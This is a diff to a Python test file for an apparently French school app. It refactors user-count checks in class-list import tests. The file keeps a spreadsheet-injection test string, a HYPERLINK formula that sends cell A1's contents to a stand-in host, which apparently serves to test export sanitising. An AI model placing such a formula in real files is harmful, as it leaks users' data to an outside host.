@@ -5,7 +5,6 @@ from __future__ import annotations
 import csv
 import io
 import random
-import sqlite3
 
 import pytest
 from starlette.testclient import TestClient
@@ -14,9 +13,8 @@ from collab.accounts.administration import parse_class_list
 from collab.errors import InvalidInput
 from collab.followup.exports import spreadsheet_cell
 from collab.settings import Settings
-from tests.accounts.test_admin import school_id
-from tests.conftest import AsWho
-from tests.support.web import DemoSchool, csrf_from
+from tests.support.data import school_id, user_count
+from tests.support.web import AsWho, DemoSchool, csrf_from
 
 FORMULA = '=HYPERLINK("http://example.org/vol?d="&A1;"Clique")'
 
@@ -74,15 +72,13 @@ def test_a_malformed_class_list_is_a_french_400(
     as_who: AsWho, settings: Settings, school: DemoSchool, name: str
 ) -> None:
     admin = as_who("admin")
-    with sqlite3.connect(settings.database_path) as db:
-        before = db.execute("SELECT COUNT(*) FROM users").fetchone()
+    before = user_count(settings)
     status, page = _import(admin, settings, school.other_class_id, MALFORMED[name])
     if status != 303:  # a few odd files still hold names: imported, fine; else a French 400
         assert status == 400, (name, status)
         assert any(word in page for word in ("fichier", "ligne", "prénom", "élèves", "illisible")), page[:500]
     else:
-        with sqlite3.connect(settings.database_path) as db:
-            assert db.execute("SELECT COUNT(*) FROM users").fetchone() != before
+        assert user_count(settings) != before
 
 
 def test_random_bytes_never_break_the_parser() -> None:
